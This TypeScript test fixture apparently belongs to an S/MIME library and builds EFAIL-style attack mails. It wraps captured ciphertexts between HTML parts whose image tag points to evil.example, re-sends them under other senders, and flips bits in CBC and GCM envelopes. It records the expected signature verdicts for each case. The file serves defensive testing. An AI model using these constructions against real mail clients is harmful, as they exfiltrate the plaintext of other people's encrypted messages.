/** Cipher texts that were captured and sent again inside other messages to get their text back (EFAIL), or changed on the way. */
import type { Certificate } from '../../../src/pki/certificate.ts';
import { type ContentEncryption, writeEnvelope } from '../../../src/smime/write-envelope.ts';
import { header, multipart, opaque, signedEntity } from '../crafted-mail.ts';
import type { People } from '../smime-people.ts';

export const SECRET = 'The secret of the house.';
/** What was encrypted to the reader once. */
export const LETTER = Buffer.from(`Content-Type: text/plain\r\n\r\n${`${SECRET} `.repeat(8)}\r\n`);
/** The same as a letter that would fetch a picture and follow a link. */
const HTML_LETTER = Buffer.from(
  `Content-Type: text/html\r\n\r\n<p>${`${SECRET} `.repeat(8)}</p><img src="https://evil.example/x.png"><a href="https://evil.example/">x</a>\r\n`,
);

/** The message as the reader with this certificate gets it. */
type Maker = (people: People, reader: Certificate) => Buffer;

export const message = (entity: Buffer, from = 'mallory@example.org') =>
  Buffer.concat([Buffer.from(header(from)), entity]);

export function encrypted(
  mime: Buffer,
  reader: Certificate,
  content: ContentEncryption = 'aes-256-cbc',
  disposition = '',
): Buffer {
  const cms = writeEnvelope(mime, [reader], content);
  return opaque(cms, content.endsWith('gcm') ? 'authEnveloped-data' : 'enveloped-data', disposition);
}

/** Flips bits of one octet; a negative place counts from the end. */
export function flipped(cms: Buffer, place: number, bits = 0x01): Buffer {
  const copy = Buffer.from(cms);
  const at = place < 0 ? copy.length + place : place;
  copy[at] = (copy[at] as number) ^ bits;
  return copy;
}

const html = (words: string) => `Content-Type: text/html\r\n\r\n${words}\r\n`;
const text = (words: string) => `Content-Type: text/plain\r\n\r\n${words}\r\n`;
const OPENING = html('<img src="https://evil.example/');
const CLOSING = html('">');
const asFile = (reader: Certificate) =>
  encrypted(LETTER, reader, 'aes-256-gcm', 'Content-Disposition: attachment; filename=old.p7m\r\n');
const inLine = (reader: Certificate) => encrypted(LETTER, reader, 'aes-256-cbc', 'Content-Disposition: inline\r\n');
const rfc822 = (entity: Buffer) =>
  Buffer.concat([Buffer.from('Content-Type: message/rfc822\r\n\r\n'), message(entity)]);
/** The letter of Alice that Mallory recorded. */
const captured: Maker = ({ alice }, reader) => encrypted(signedEntity(alice, LETTER), reader);

/** Below the root, in every place where a program might open it. */
export const BELOW_THE_ROOT: Record<string, Maker> = {
  'between HTML parts': (...to) => message(multipart('mixed', [OPENING, captured(...to), CLOSING])),
  'between HTML parts that belong together': (...to) =>
    message(multipart('related', [OPENING, captured(...to), CLOSING])),
  'as an alternative': (...to) => message(multipart('alternative', [text('Hello'), captured(...to)])),
  'as an attachment of a chatty mail': (_, reader) =>
    message(multipart('mixed', [text('What did I send you?'), asFile(reader)])),
  'in line with a chatty mail': (_, reader) =>
    message(multipart('mixed', [text('Look:'), inLine(reader), text('Bye')])),
  'alone in a multipart': (...to) => message(multipart('mixed', [captured(...to)])),
  'in an attached message': (...to) => message(multipart('mixed', [text('See below'), rfc822(captured(...to))])),
  'in a message that is the whole content': (...to) => message(rfc822(captured(...to))),
  'in a digest': (...to) =>
    message(multipart('digest', [Buffer.concat([Buffer.from('\r\n'), message(captured(...to))])])),
  'among parts that its sender signed': (people, reader) =>
    message(signedEntity(people.bob, multipart('mixed', [text('Hello'), captured(people, reader)]))),
  'among parts that its sender encrypted': (people, reader) =>
    message(encrypted(multipart('mixed', [text('Hello'), captured(people, reader)]), reader)),
  'in a message that its sender encrypted': (people, reader) =>
    message(encrypted(multipart('mixed', [text('Hello'), rfc822(captured(people, reader))]), reader)),
};

/** What is claimed of a whole message of that kind, and why an answer starts without its text. */
type SentAgain = { made: Maker; signature: string; withheld: string };

const sentByBob = (entity: Buffer) => message(entity, 'bob@example.org');

/** As the whole message, where it is opened: what matters is who gets the text with an answer. Bob sends it. */
export const SENT_AGAIN: Record<string, SentAgain> = {
  'as one’s own': {
    made: (_, reader) => sentByBob(encrypted(LETTER, reader)),
    signature: 'none',
    withheld: 'malleable',
  },
  'as one’s own under GCM': {
    made: (_, reader) => sentByBob(encrypted(LETTER, reader, 'aes-256-gcm')),
    signature: 'none',
    withheld: 'no-signature',
  },
  'with the signature of its writer': {
    made: (...to) => sentByBob(captured(...to)),
    signature: 'mismatch',
    withheld: 'no-signature',
  },
  'in another envelope': {
    made: (people, reader) => sentByBob(encrypted(captured(people, reader), reader, 'aes-256-gcm')),
    signature: 'mismatch',
    withheld: 'no-signature',
  },
  'signed around it': {
    made: ({ bob }, reader) => sentByBob(signedEntity(bob, encrypted(LETTER, reader))),
    signature: 'none',
    withheld: 'malleable',
  },
  'in an envelope around a signature around it': {
    made: ({ bob }, reader) =>
      sentByBob(encrypted(signedEntity(bob, encrypted(LETTER, reader, 'aes-256-gcm')), reader, 'aes-256-gcm')),
    signature: 'none',
    withheld: 'no-signature',
  },
  'as HTML': {
    made: (_, reader) => sentByBob(encrypted(HTML_LETTER, reader)),
    signature: 'none',
    withheld: 'malleable',
  },
  'with bits of its text turned': {
    made: (_, reader) => sentByBob(opaque(flipped(cbc(LETTER, reader), -40, 0x04), 'enveloped-data', '')),
    signature: 'none',
    withheld: 'malleable',
  },
  'as HTML with bits turned': {
    made: (_, reader) => sentByBob(opaque(flipped(cbc(HTML_LETTER, reader), -40, 0x04), 'enveloped-data', '')),
    signature: 'none',
    withheld: 'malleable',
  },
  'with bits of its signed text turned': {
    made: ({ alice }, reader) => sentByBob(opaque(flippedInside(alice, reader), 'enveloped-data', '')),
    signature: 'invalid',
    withheld: 'malleable',
  },
};

const cbc = (mime: Buffer, reader: Certificate) => writeEnvelope(mime, [reader], 'aes-256-cbc');

/** One block of the text is noise, and one octet of the next is another. */
function flippedInside(writer: People['alice'], reader: Certificate): Buffer {
  const entity = signedEntity(writer, LETTER);
  const cms = cbc(entity, reader);
  const start = cms.length - 16 * Math.ceil((entity.length + 1) / 16);
  const middle = entity.indexOf(SECRET) + 100;
  return flipped(cms, start + middle - (middle % 16), 0x04);
}
